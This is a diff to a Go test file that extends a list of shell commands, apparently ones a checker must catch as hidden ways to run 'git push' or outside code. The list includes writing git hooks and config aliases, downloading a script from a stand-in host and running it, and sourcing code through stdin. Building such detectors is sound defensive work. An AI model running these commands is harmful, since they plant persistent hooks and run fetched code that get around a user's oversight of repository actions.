@@ -75,6 +75,10 @@ func TestCommandsSound(t *testing.T) {
 		"cp /tmp/p.sh p.sh; ./p.sh",
 		"curl -o x.py https://example.com/x.py; python3 x.py",
 		"echo 'git push' > \"$f\"; bash ok.sh",
+		"printf '#!/bin/sh\\ngit push origin main\\n' > .git/hooks/post-commit",
+		"cp /tmp/h .git/hooks/pre-push",
+		"echo '[alias] p = push' >> .git/config",
+		"cd .git && echo x > hooks/post-commit",
 		// Code that is no file, and editors given commands.
 		"source <(echo git push origin main)",
 		". /dev/stdin <<< 'git push origin main'",
